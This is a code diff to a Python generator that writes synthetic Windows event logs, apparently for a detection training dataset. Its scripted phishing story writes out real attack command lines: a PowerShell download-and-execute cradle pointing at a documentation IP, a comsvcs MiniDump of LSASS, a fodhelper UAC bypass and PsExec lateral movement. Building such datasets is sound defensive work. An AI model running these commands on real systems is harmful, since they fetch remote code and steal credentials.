@@ -398,7 +398,6 @@ def dc_tgt(t: datetime, user: str, src_ip: str, rng: random.Random) -> None:
         "ServiceName": "krbtgt", "ServiceSid": sid("krbtgt"), "TicketOptions": "0x40810010",
         "Status": "0x0", "TicketEncryptionType": "0x12", "PreAuthType": "2",
         "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
-        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": "",
     })
     conn(t - timedelta(milliseconds=4), src_ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
          "krb_tcp", rng.uniform(0.002, 0.02), rng.randint(1400, 1700), rng.randint(1500, 1800))
@@ -431,7 +430,6 @@ def dc_preauth_failed(t: datetime, user: str, src_ip: str, code: str, rng: rando
         "ServiceName": f"krbtgt/{DNS_DOMAIN.upper()}", "TicketOptions": "0x40810010",
         "Status": code, "FailureCode": code, "PreAuthType": "2",
         "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
-        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": "",
     })
 
 
@@ -655,10 +653,10 @@ def workstation_day(h: WinHost, day: int, rng: random.Random, ltype: int = 2,
     if end is None:
         end = at(day, 17, 5) + timedelta(minutes=rng.uniform(0, 50))
     lunch = at(day, 12, 0) + timedelta(minutes=rng.uniform(-15, 30))
-    d.activity(t + timedelta(minutes=2), lunch, rng.randint(7, 11))
+    d.activity(t + timedelta(minutes=2), lunch, rng.randint(4, 7))
     back = lunch + timedelta(minutes=rng.uniform(35, 55))
     d.lock_unlock(lunch, back)
-    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(7, 11))
+    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(4, 7))
     d.end(end)
     FS01.logoff(end + timedelta(seconds=rng.uniform(3, 9)), user, 3, fs_lid)
     return d
@@ -676,7 +674,7 @@ def gp_refresh(h: WinHost, day: int, rng: random.Random) -> None:
         conn(t, h.ip, rng.randint(49700, 65000), IP["DC01"], 445, "tcp", "smb",
              rng.uniform(0.05, 0.6), rng.randint(1500, 5000), rng.randint(3000, 30000))
         DC01.logoff(t + timedelta(seconds=rng.uniform(0.5, 3)), acct, 3, lid)
-        t += timedelta(minutes=rng.uniform(110, 150))
+        t += timedelta(minutes=rng.uniform(180, 240))
 
 
 def server_background(rng: random.Random) -> None:
@@ -782,6 +780,436 @@ def windows_background() -> None:
 
 
 # --------------------------------------------------------------------------------------------
+# Story: phishing on WS01 -> credential dumping -> PsExec to FS01 (malicious), Thu + Fri
+# --------------------------------------------------------------------------------------------
+
+CALLTRACE_MINIDUMP = (
+    r"C:\Windows\SYSTEM32\ntdll.dll+9f1d4|C:\Windows\System32\KERNELBASE.dll+2c0ee|"
+    r"C:\Windows\SYSTEM32\dbgcore.DLL+9a47|C:\Windows\SYSTEM32\dbgcore.DLL+16c85|"
+    r"C:\Windows\SYSTEM32\dbgcore.DLL+10a26|C:\Windows\SYSTEM32\dbgcore.DLL+63bf|"
+    r"C:\Windows\SYSTEM32\dbgcore.DLL+6c3c|C:\Windows\System32\comsvcs.dll+4a1c4|"
+    r"C:\Windows\System32\rundll32.exe+3bcf|C:\Windows\System32\rundll32.exe+6309|"
+    r"C:\Windows\System32\KERNEL32.DLL+1257d|C:\Windows\SYSTEM32\ntdll.dll+5af28")
+STORY_WINDOWS: dict[str, tuple[datetime, datetime]] = {}
+
+
+def c2_beacons(h: WinHost, p: Proc, t0: datetime, t1: datetime, rng: random.Random) -> None:
+    """HTTPS check-ins to the C2 every ~10 minutes (20% jitter)."""
+    t = t0
+    while t < t1:
+        sport = h.netconn(t, p, C2, 443, port_name="https")
+        conn(t, h.ip, sport, C2, 443, "tcp", "ssl", rng.uniform(0.25, 1.4), rng.randint(1100, 1700),
+             rng.randint(2900, 5200))
+        t += timedelta(seconds=600 * rng.uniform(0.8, 1.2))
+
+
+def story_phish_to_fileserver() -> None:
+    rng = rstream("story-phish")
+    h, u = WS01, "alice"
+    du, home = "CORP\\alice", r"C:\Users\alice"
+    hku = user_sid_hku(u)
+
+    # Thursday: an ordinary morning until the invoice arrives
+    t_logon = at(THU, 8, 47, 12.4)
+    d = Desk(h, u, rng)
+    dc_tgt(t_logon - timedelta(seconds=0.3), u, h.ip, rng)
+    dc_tgs(t_logon - timedelta(seconds=0.1), u, "WS01$", h.ip, rng)
+    t = d.start(t_logon)
+    tm = t + timedelta(seconds=21)
+    dc_tgs(tm, u, "FS01$", h.ip, rng)
+    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
+                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
+    d.activity(t + timedelta(minutes=2), at(THU, 12, 4), 8)
+    d.lock_unlock(at(THU, 12, 4, 31), at(THU, 12, 51, 8))
+    d.activity(at(THU, 12, 52), at(THU, 13, 55), 4)
+
+    # 13:58 the attachment is saved by Outlook and opened in Word (T1566.001)
+    t0 = at(THU, 13, 58, 41.3)
+    doc = home + r"\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\R7T2K9QX\Invoice_2026-0231.docm"
+    h.filecreate(t0, d.outlook, doc)
+    word = h.proc(at(THU, 13, 58, 52.9), f"{OFFICE}\\WINWORD.EXE",
+                  f'"{OFFICE}\\WINWORD.EXE" /n "{doc}" /o ""', d.outlook, meta=OFFICE_META["WINWORD.EXE"])
+    # 13:59 the macro starts a hidden, encoded PowerShell download cradle (T1059.001, T1027)
+    ps1 = h.proc(at(THU, 13, 59, 31.2), PS, MALICIOUS_PS, word, cwd=home + "\\Documents\\",
+                 meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
+    h.filecreate(at(THU, 13, 59, 31.9), ps1, home + r"\AppData\Local\Temp\__PSScriptPolicyTest_"
+                 r"w1kq3xbd.3ta.ps1")
+    sport = h.netconn(at(THU, 13, 59, 33.0), ps1, C2, 443, port_name="https")  # T1071.001
+    conn(at(THU, 13, 59, 33.0), h.ip, sport, C2, 443, "tcp", "ssl", 1.84, 1262, 148211)
+    # 14:03 persistence: HKCU Run key "Updater" (T1547.001)
+    h.regset(at(THU, 14, 3, 10.4), ps1,
+             f"{hku}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
+             f"{PS} -nop -w hidden -enc {CRADLE_B64}")
+    # 14:06 UAC bypass through the fodhelper ms-settings handler (T1548.002)
+    cls = f"{hku}_Classes\\ms-settings\\Shell\\Open\\command"
+    stage2 = ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/b')")
+    h.sysmon_emit(at(THU, 14, 6, 2.1), 12, {"EventType": "CreateKey", "ProcessGuid": ps1.guid,
+                                             "ProcessId": str(ps1.pid), "Image": ps1.image,
+                                             "TargetObject": cls, "User": du})
+    h.regset(at(THU, 14, 6, 2.2), ps1, cls + "\\(Default)", f"powershell.exe -nop -w hidden -enc {stage2}")
+    h.regset(at(THU, 14, 6, 2.3), ps1, cls + "\\DelegateExecute", "(Empty)")
+    fod = h.proc(at(THU, 14, 6, 3.0), r"C:\Windows\System32\fodhelper.exe",
+                 r'"C:\Windows\system32\fodhelper.exe" ', ps1, il="High",
+                 meta=msmeta("Features On Demand Helper", "FodHelper.EXE"))
+    ps2 = h.proc(at(THU, 14, 6, 3.6), PS, f"powershell.exe -nop -w hidden -enc {stage2}", fod,
+                 il="High", cwd=r"C:\Windows\system32" + "\\",
+                 meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
+    h.sysmon_emit(at(THU, 14, 6, 9.8), 12, {"EventType": "DeleteKey", "ProcessGuid": ps2.guid,
+                                             "ProcessId": str(ps2.pid), "Image": ps2.image,
+                                             "TargetObject": f"{hku}_Classes\\ms-settings", "User": du})
+    sport = h.netconn(at(THU, 14, 6, 4.4), ps2, C2, 443, port_name="https")
+    conn(at(THU, 14, 6, 4.4), h.ip, sport, C2, 443, "tcp", "ssl", 2.31, 1304, 211877)
+    # 14:09 LSASS memory dump with comsvcs.dll MiniDump (T1003.001)
+    dmp = home + r"\AppData\Local\Temp\lsass.dmp"
+    rd = h.proc(at(THU, 14, 9, 21.07), r"C:\Windows\System32\rundll32.exe",
+                rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 {dmp} full", ps2,
+                meta=msmeta("Windows host process (Rundll32)", "RUNDLL32.EXE"))
+    h.sysmon_emit(at(THU, 14, 9, 21.12), 10, {
+        "SourceProcessGUID": rd.guid, "SourceProcessId": str(rd.pid), "SourceThreadId": "7312",
+        "SourceImage": rd.image, "TargetProcessGUID": h.lsass.guid, "TargetProcessId": "624",
+        "TargetImage": r"C:\Windows\system32\lsass.exe", "GrantedAccess": "0x1FFFFF",
+        "CallTrace": CALLTRACE_MINIDUMP, "SourceUser": du, "TargetUser": "NT AUTHORITY\\SYSTEM"})
+    h.filecreate(at(THU, 14, 9, 21.16), rd, dmp)
+    # 14:12 the dump leaves for the C2 (big upload), then is deleted
+    sport = h.netconn(at(THU, 14, 12, 40.5), ps2, C2, 443, port_name="https")
+    conn(at(THU, 14, 12, 40.5), h.ip, sport, C2, 443, "tcp", "ssl", 38.7, 51_803_204, 9_214)
+    h.sysmon_emit(at(THU, 14, 13, 22.4), 26, {
+        "ProcessGuid": ps2.guid, "ProcessId": str(ps2.pid), "User": du, "Image": ps2.image,
+        "TargetFilename": dmp, "Hashes": "SHA256=" + fake_sha256(dmp), "IsExecutable": "false"})
+    # 14:24 a tool transfer: PsExec downloaded from the C2 (T1105)
+    sport = h.netconn(at(THU, 14, 24, 8.2), ps2, C2, 443, port_name="https")
+    conn(at(THU, 14, 24, 8.2), h.ip, sport, C2, 443, "tcp", "ssl", 1.12, 1422, 838_216)
+    pse_path = home + r"\AppData\Local\Temp\PsExec64.exe"
+    h.filecreate(at(THU, 14, 24, 9.5), ps2, pse_path)
+    # 14:31 lateral movement with PsExec to FS01 (T1021.002, T1569.002)
+    pse = h.proc(at(THU, 14, 31, 1.4), pse_path,
+                 f'"{pse_path}" \\\\FS01 -accepteula cmd.exe /c "whoami & net group \\"domain admins\\" /domain"',
+                 ps2, cwd=home + "\\AppData\\Local\\Temp\\",
+                 meta=("2.43", "Execute processes remotely", "Sysinternals PsExec",
+                       "Sysinternals - www.sysinternals.com", "psexec.c"))
+    h.regset(at(THU, 14, 31, 1.5), pse, f"{hku}\\Software\\Sysinternals\\PsExec\\EulaAccepted",
+             "DWORD (0x00000001)")
+    sport = h.netconn(at(THU, 14, 31, 1.6), pse, IP["FS01"], 445, port_name="microsoft-ds")
+    conn(at(THU, 14, 31, 1.6), h.ip, sport, IP["FS01"], 445, "tcp", "smb", 9.82, 712_455, 18_230)
+
+    # FS01 side
+    f = FS01
+    t = at(THU, 14, 31, 1.71)
+    dc_ntlm(t - timedelta(milliseconds=6), u, "WS01")
+    lid = f.logon(t, u, 3, src_ip=h.ip, src_port=str(sport), workstation="WS01", package="NTLM",
+                  lproc="NtLmSsp ", lm="NTLM V2", key_len="128", elevated=True)
+    f.special_privs(t + timedelta(milliseconds=1), u, lid)
+    sysmon_system = f.system
+    f.filecreate(at(THU, 14, 31, 1.90), sysmon_system, r"C:\Windows\PSEXESVC.exe")
+    f.emit(at(THU, 14, 31, 2.05), 4697, SEC, {
+        "SubjectUserSid": sid(u), "SubjectUserName": u, "SubjectDomainName": DOMAIN,
+        "SubjectLogonId": lid, "ServiceName": "PSEXESVC", "ServiceFileName": r"%SystemRoot%\PSEXESVC.exe",
+        "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})
+    f.emit(at(THU, 14, 31, 2.05), 7045, SCM, {
+        "ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe",
+        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"},
+        message="A service was installed in the system.")
+    svc = f.proc(at(THU, 14, 31, 2.11), r"C:\Windows\PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe",
+                 f.services, user="NT AUTHORITY\\SYSTEM", il="System",
+                 meta=("2.43", "PsExec Service", "Sysinternals PsExec",
+                       "Sysinternals - www.sysinternals.com", "psexesvc.exe"))
+    f.emit(at(THU, 14, 31, 2.12), 7036, SCM, {"param1": "PSEXESVC", "param2": "running"},
+           message="The PSEXESVC service entered the running state.")
+    cmd = f.proc(at(THU, 14, 31, 2.48), r"C:\Windows\System32\cmd.exe",
+                 'cmd.exe /c whoami & net group "domain admins" /domain', svc, user=du, il="High",
+                 cwd=r"C:\Windows\system32" + "\\", meta=msmeta("Windows Command Processor", "Cmd.Exe"))
+    cmd.logon_id = lid
+    f.proc(at(THU, 14, 31, 2.61), r"C:\Windows\System32\whoami.exe", "whoami", cmd,
+           meta=msmeta("whoami - displays logged on user information", "whoami.exe"))
+    net = f.proc(at(THU, 14, 31, 2.85), r"C:\Windows\System32\net.exe",
+                 'net  group "domain admins" /domain', cmd, meta=msmeta("Net Command", "net.exe"))
+    f.proc(at(THU, 14, 31, 2.88), r"C:\Windows\System32\net1.exe",
+           r'C:\Windows\system32\net1  group "domain admins" /domain', net,
+           meta=msmeta("Net Command", "net1.exe"))
+    # net group /domain queries the DC over SAMR (T1087.002)
+    t = at(THU, 14, 31, 2.95)
+    conn(t, IP["FS01"], rng.randint(49700, 65000), IP["DC01"], 445, "tcp", "smb", 0.41, 4_872, 6_935)
+    dc_ntlm(t + timedelta(milliseconds=3), u, "FS01")
+    dlid = DC01.logon(t + timedelta(milliseconds=9), u, 3, src_ip=IP["FS01"],
+                      src_port=str(rng.randint(49700, 65000)), workstation="FS01", package="NTLM",
+                      lproc="NtLmSsp ", lm="NTLM V2", key_len="128")
+    DC01.logoff(t + timedelta(seconds=0.52), u, 3, dlid)
+    f.emit(at(THU, 14, 31, 4.20), 7036, SCM, {"param1": "PSEXESVC", "param2": "stopped"},
+           message="The PSEXESVC service entered the stopped state.")
+    f.logoff(at(THU, 14, 31, 4.35), u, 3, lid)
+    STORY_WINDOWS["ws01"] = (t0, at(THU, 14, 31, 12))
+    STORY_WINDOWS["fs01"] = (at(THU, 14, 31, 1.7), at(THU, 14, 31, 4.4))
+
+    # the rest of Thursday: C2 check-ins while alice keeps working
+    c2_beacons(h, ps2, at(THU, 14, 16, 5.0), at(THU, 17, 38), rng)
+    d.activity(at(THU, 14, 35), at(THU, 17, 35), 7)
+    t_end = at(THU, 17, 41, 26.0)
+    d.end(t_end)
+    FS01.logoff(t_end + timedelta(seconds=4.2), u, 3, fs_lid)
+    STORY_WINDOWS["ws01-thu-end"] = (t_end, t_end)
+
+    # Friday: the Run key relaunches the cradle at logon (T1547.001) and check-ins resume
+    t_logon = at(FRI, 8, 52, 3.8)
+    d = Desk(h, u, rng)
+    dc_tgt(t_logon - timedelta(seconds=0.3), u, h.ip, rng)
+    dc_tgs(t_logon - timedelta(seconds=0.1), u, "WS01$", h.ip, rng)
+    t = d.start(t_logon)
+    runps = h.proc(t_logon + timedelta(seconds=9.6), PS, f"{PS} -nop -w hidden -enc {CRADLE_B64}",
+                   d.explorer, meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
+    c2_beacons(h, runps, t_logon + timedelta(seconds=11.2), at(FRI, 17, 30), rng)
+    tm = t + timedelta(seconds=17)
+    dc_tgs(tm, u, "FS01$", h.ip, rng)
+    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
+                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
+    d.activity(t + timedelta(minutes=2), at(FRI, 12, 10), 9)
+    d.lock_unlock(at(FRI, 12, 10, 44), at(FRI, 12, 58, 2))
+    d.activity(at(FRI, 13, 0), at(FRI, 17, 30), 9)
+    t_end = at(FRI, 17, 33, 51.0)
+    d.end(t_end)
+    FS01.logoff(t_end + timedelta(seconds=3.9), u, 3, fs_lid)
+
+
+# --------------------------------------------------------------------------------------------
+# Story: svc_backup with a stale password (misconfiguration), Monday evening
+# --------------------------------------------------------------------------------------------
+
+BACKUP_FAILS: list[tuple[datetime, int]] = []  # (time, attempt) shared with the Linux side
+
+
+def story_svc_backup_windows() -> None:
+    rng = rstream("story-svc-backup")
+    # 16:41 it_admin rotates svc_backup's password on the DC (the cause; legitimate by itself)
+    t = at(MON, 16, 41, 7.3)
+    DC01.emit(t, 4724, SEC, {"TargetUserName": "svc_backup", "TargetDomainName": DOMAIN,
+                             "TargetSid": sid("svc_backup"), "SubjectUserSid": sid("it_admin"),
+                             "SubjectUserName": "it_admin", "SubjectDomainName": DOMAIN,
+                             "SubjectLogonId": "0x5d1e2a"})
+    DC01.emit(t + timedelta(milliseconds=12), 4738, SEC, {
+        "TargetUserName": "svc_backup", "TargetDomainName": DOMAIN, "TargetSid": sid("svc_backup"),
+        "SubjectUserSid": sid("it_admin"), "SubjectUserName": "it_admin",
+        "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x5d1e2a",
+        "PasswordLastSet": "3/2/2026 4:41:07 PM", "UserAccountControl": "-"})
+    # 19:00 .. ~22:00: the nightly job retries every 30-60 s with the old password
+    t = at(MON, 19, 0, 2.6)
+    n = 0
+    while t < at(MON, 22, 0):
+        n += 1
+        BACKUP_FAILS.append((t, n))
+        # Kerberos first (AS-REQ with the stale key) -> 4771 0x18 on the DC
+        kport = rng.randint(40000, 60999)
+        conn(t, IP["BACKUP01"], kport, IP["DC01"], 88, "tcp", "krb_tcp", rng.uniform(0.003, 0.01),
+             rng.randint(250, 330), rng.randint(180, 240))
+        dc_preauth_failed(t + timedelta(milliseconds=rng.randint(3, 9)), "svc_backup",
+                          IP["BACKUP01"], "0x18", rng)
+        # then the NTLM session setup to the file server -> 4625 on FS01, 4776 on the DC
+        t2 = t + timedelta(seconds=rng.uniform(0.05, 0.25))
+        sport = rng.randint(40000, 60999)
+        conn(t2, IP["BACKUP01"], sport, IP["FS01"], 445, "tcp", "smb", rng.uniform(0.01, 0.05),
+             rng.randint(900, 1100), rng.randint(700, 900))
+        FS01.emit(t2 + timedelta(milliseconds=rng.randint(10, 20)), 4625, SEC, {
+            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
+            "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": "svc_backup",
+            "TargetDomainName": DOMAIN, "Status": "0xC000006D", "FailureReason": "%%2313",
+            "SubStatus": "0xC000006A", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
+            "AuthenticationPackageName": "NTLM", "WorkstationName": "BACKUP01",
+            "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0",
+            "ProcessName": "-", "IpAddress": IP["BACKUP01"], "IpPort": str(sport)})
+        t += timedelta(seconds=rng.uniform(30, 60))
+    STORY_WINDOWS["svc_backup"] = (BACKUP_FAILS[0][0], BACKUP_FAILS[-1][0] + timedelta(seconds=1))
+    # Tuesday 09:2x: the credentials file on BACKUP01 is fixed and a manual test run succeeds;
+    # Tue-Fri 19:00 nightly runs succeed.
+    runs = [at(TUE, 9, 24, 40.2)] + [at(dd, 19, 0, 2.0 + rng.uniform(0, 1.5)) for dd in (TUE, WED, THU, FRI)]
+    for i, t in enumerate(runs):
+        dc_tgt(t, "svc_backup", IP["BACKUP01"], rng)
+        dc_tgs(t + timedelta(milliseconds=8), "svc_backup", "FS01$", IP["BACKUP01"], rng)
+        t2 = t + timedelta(milliseconds=60)
+        sport = rng.randint(40000, 60999)
+        lid = FS01.logon(t2, "svc_backup", 3, src_ip=IP["BACKUP01"], src_port=str(sport),
+                         workstation="BACKUP01", package="Kerberos", lproc="Kerberos")
+        dur = 41.0 if i == 0 else rng.uniform(1900, 2700)
+        conn(t2, IP["BACKUP01"], sport, IP["FS01"], 445, "tcp", "smb", dur, rng.randint(90_000, 400_000),
+             18_000 if i == 0 else rng.randint(1_800_000_000, 2_600_000_000))
+        FS01.logoff(t2 + timedelta(seconds=dur + 0.3), "svc_backup", 3, lid)
+        BACKUP_OK.append((t, dur))
+
+
+BACKUP_OK: list[tuple[datetime, float]] = []
+
+
+# --------------------------------------------------------------------------------------------
+# Story: WS02's clock drifts past the Kerberos tolerance (misconfiguration), Thursday morning
+# --------------------------------------------------------------------------------------------
+
+SKEW = timedelta(minutes=6, seconds=48.3)  # WS02's clock is this far behind
+
+
+def story_clock_skew() -> None:
+    rng = rstream("story-clock-skew")
+    h, u = WS02, "bob"
+    # 07:51 WS02 tries its manually configured NTP peer, which does not resolve (left over from
+    # a vendor lab setup): no time source for days, drift accumulated.
+    t = at(THU, 7, 51, 12.0)
+    for i, delay in enumerate((0, 15 * 60, 45 * 60)):
+        tt = t + timedelta(seconds=delay)
+        conn(tt - timedelta(milliseconds=30), h.ip, rng.randint(49700, 65000), IP["DC01"], 53, "udp",
+             "dns", 0.0012, 38, 113)
+        h.emit(tt, 134, W32TIME, {
+            "DomainPeer": "ntp.vendor-lab.local,0x9", "ErrorMessage": "No such host is known. (0x80072AF9)",
+            "RetryMinutes": str(15 * 2 ** i)},
+            message="NtpClient was unable to set a manual peer to use as a time source because of DNS "
+                    "resolution error on 'ntp.vendor-lab.local,0x9'. NtpClient will try again in "
+                    f"{15 * 2 ** i} minutes and double the reattempt interval thereafter. The error was: "
+                    "No such host is known. (0x80072AF9)", task="0")
+    h.emit(t + timedelta(seconds=2.1), 36, W32TIME, {"Seconds": "86400"},
+           message="The time service has not synchronized the system time for 86400 seconds because "
+                   "none of the time service providers provided a usable time stamp.", task="0")
+    # the machine account is refused too (KRB_AP_ERR_SKEW) at boot and on each retry
+    for k in range(5):
+        tt = t + timedelta(seconds=9 + k * rng.uniform(1000, 1400))
+        dc_preauth_failed(tt, "WS02$", h.ip, "0x25", rng)
+        conn(tt - timedelta(milliseconds=5), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
+             "krb_tcp", 0.004, 291, 205)
+    # 08:03 bob logs on: Kerberos fails with 0x25, Windows falls back to cached credentials (type 11)
+    t = at(THU, 8, 3, 44.6)
+    dc_preauth_failed(t - timedelta(seconds=0.4), u, h.ip, "0x25", rng)
+    conn(t - timedelta(seconds=0.41), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp", "krb_tcp",
+         0.005, 288, 201)
+    d = Desk(h, u, rng)
+    t = d.start(t, ltype=11)
+    # mapped drive and Outlook keep failing to get tickets
+    for k in range(4):
+        tt = t + timedelta(seconds=30 + k * rng.uniform(500, 900))
+        dc_preauth_failed(tt, u, h.ip, "0x25", rng)
+        conn(tt - timedelta(milliseconds=5), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
+             "krb_tcp", 0.004, 288, 201)
+    d.activity(t + timedelta(minutes=1), at(THU, 9, 25), 5)
+    # 09:31 it_admin comes by: over-the-shoulder elevation, then resets the time configuration
+    t = at(THU, 9, 31, 20.2)
+    lid = h.logon(t, "it_admin", 11, src_ip="127.0.0.1", workstation="WS02",
+                  proc_name=r"C:\Windows\System32\consent.exe", proc_id="0x2f4c", elevated=True)
+    h.special_privs(t + timedelta(milliseconds=2), "it_admin", lid)
+    admin_cmd = h.proc(t + timedelta(seconds=2.2), r"C:\Windows\System32\cmd.exe",
+                       r'"C:\Windows\system32\cmd.exe" ', d.explorer, user="CORP\\it_admin", il="High",
+                       meta=msmeta("Windows Command Processor", "Cmd.Exe"))
+    admin_cmd.logon_id = lid
+    h.proc(t + timedelta(seconds=41.5), r"C:\Windows\System32\w32tm.exe", "w32tm  /query /status",
+           admin_cmd, meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
+    h.proc(t + timedelta(seconds=88.1), r"C:\Windows\System32\w32tm.exe",
+           "w32tm  /config /syncfromflags:domhier /update", admin_cmd,
+           meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
+    t_fix = t + timedelta(seconds=101.7)
+    h.proc(t_fix, r"C:\Windows\System32\w32tm.exe", "w32tm  /resync /force", admin_cmd,
+           meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
+    conn(t_fix + timedelta(seconds=0.2), h.ip, 123, IP["DC01"], 123, "udp", "ntp", 0.0009, 48, 48)
+    old = t_fix + timedelta(seconds=0.4) - SKEW
+    new = t_fix + timedelta(seconds=0.4)
+    h.emit(t_fix + timedelta(seconds=0.4), 1, KERNEL_GENERAL, {
+        "NewTime": new.strftime("%Y-%m-%dT%H:%M:%S.") + f"{new.microsecond:06d}000Z",
+        "OldTime": old.strftime("%Y-%m-%dT%H:%M:%S.") + f"{old.microsecond:06d}000Z",
+        "Reason": "2"},
+        message=f"The system time has changed to \u200e{new:%Y}\u200e-\u200e{new:%m}\u200e-\u200e{new:%d}"
+                f"T{new:%H:%M:%S}.{new.microsecond:06d}000Z from \u200e{old:%Y}\u200e-\u200e{old:%m}"
+                f"\u200e-\u200e{old:%d}T{old:%H:%M:%S}.{old.microsecond:06d}000Z.\r\n\r\nChange Reason: "
+                "System time synchronized with the hardware clock.", task="1")
+    h.emit(t_fix + timedelta(seconds=0.6), 35, W32TIME, {
+        "TimeSource": "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123)"},
+        message="The time service is now synchronizing the system time with the time source "
+                "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123) with reference id 168946186. "
+                "Current local stratum number is 4.", task="0")
+    h.emit(t_fix + timedelta(seconds=0.7), 37, W32TIME, {"TimeProvider": "NtpClient",
+                                                         "TimeSource": "DC01.corp.local"},
+           message="The time provider NtpClient is currently receiving valid time data from "
+                   "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123).", task="0")
+    h.emit(t + timedelta(seconds=140.3), 4634 if False else 4647, SEC, {
+        "TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin", "TargetDomainName": DOMAIN,
+        "TargetLogonId": lid})
+    h.logoff(t + timedelta(seconds=141.0), "it_admin", 11, lid)
+    # 09:35 tickets work again
+    t = at(THU, 9, 35, 2.8)
+    dc_tgt(t, u, h.ip, rng)
+    dc_tgs(t + timedelta(seconds=0.2), u, "FS01$", h.ip, rng)
+    fs_lid = FS01.logon(t + timedelta(seconds=0.25), u, 3, src_ip=h.ip,
+                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
+    conn(t + timedelta(seconds=0.2), h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
+         3.1, 6120, 28811)
+    STORY_WINDOWS["ws02-skew"] = (at(THU, 7, 51, 12.0), t + timedelta(seconds=0.3))
+    # the rest of bob's Thursday is ordinary
+    d.activity(at(THU, 9, 40), at(THU, 12, 15), 6)
+    d.lock_unlock(at(THU, 12, 15, 30), at(THU, 13, 2, 11))
+    d.activity(at(THU, 13, 3), at(THU, 17, 10), 8)
+    t_end = at(THU, 17, 14, 9.0)
+    d.end(t_end)
+    FS01.logoff(t_end + timedelta(seconds=5.1), u, 3, fs_lid)
+
+
+# --------------------------------------------------------------------------------------------
+# Benign look-alike: it_admin creates a vendor update task on WS02 (legitimate), Tuesday
+# --------------------------------------------------------------------------------------------
+
+def story_vendor_task() -> None:
+    rng = rstream("story-vendor-task")
+    h = WS02
+    t = at(TUE, 14, 18, 3.5)
+    conn(t - timedelta(seconds=0.8), IP["admin"], rng.randint(49700, 65000), h.ip, 3389, "tcp", "ssl",
+         611.4, 198_220, 1_604_113)
+    dc_ntlm(t - timedelta(milliseconds=20), "it_admin", "ADMIN-PC")
+    lid = h.logon(t, "it_admin", 10, src_ip=IP["admin"], src_port=str(rng.randint(49700, 65000)),
+                  workstation="ADMIN-PC", elevated=True)
+    h.special_privs(t + timedelta(milliseconds=2), "it_admin", lid)
+    base = Proc(h.winlogon.guid, h.winlogon.pid, h.winlogon.image, h.winlogon.cmd, "CORP\\it_admin",
+                "High", r"C:\Windows\system32" + "\\", lid)
+    ui = h.proc(t + timedelta(seconds=2.6), r"C:\Windows\System32\userinit.exe",
+                r"C:\Windows\system32\userinit.exe", base,
+                meta=msmeta("Userinit Logon Application", "USERINIT.EXE"))
+    ex = h.proc(t + timedelta(seconds=3.4), r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", ui,
+                meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
+    cmd = h.proc(t + timedelta(seconds=74.0), r"C:\Windows\System32\cmd.exe",
+                 r'"C:\Windows\system32\cmd.exe" ', ex, meta=msmeta("Windows Command Processor", "Cmd.Exe"))
+    inst = r"\\FS01\it$\vendor\VendorUpdater-4.2.1.msi"
+    msi = h.proc(t + timedelta(seconds=131.8), r"C:\Windows\System32\msiexec.exe",
+                 f'msiexec  /i "{inst}" /qn /norestart', cmd,
+                 meta=msmeta("Windows\u00ae installer", "msiexec.exe"))
+    conn(t + timedelta(seconds=131.9), h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
+         2.4, 3_100, 14_220_118)
+    h.filecreate(t + timedelta(seconds=150.2), msi, r"C:\Program Files\Vendor\Updater\vupdate.exe")
+    task_cmd = (r'schtasks  /create /tn "VendorUpdater" /tr "\"C:\Program Files\Vendor\Updater\vupdate.exe\" '
+                r'--silent" /sc daily /st 03:00 /ru SYSTEM /f')
+    h.proc(t + timedelta(seconds=212.5), r"C:\Windows\System32\schtasks.exe", task_cmd, cmd,
+           meta=msmeta("Task Scheduler Configuration Tool", "schtasks.exe"))
+    h.emit(t + timedelta(seconds=212.7), 4698, SEC, {
+        "SubjectUserSid": sid("it_admin"), "SubjectUserName": "it_admin", "SubjectDomainName": DOMAIN,
+        "SubjectLogonId": lid, "TaskName": "\\VendorUpdater",
+        "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://"
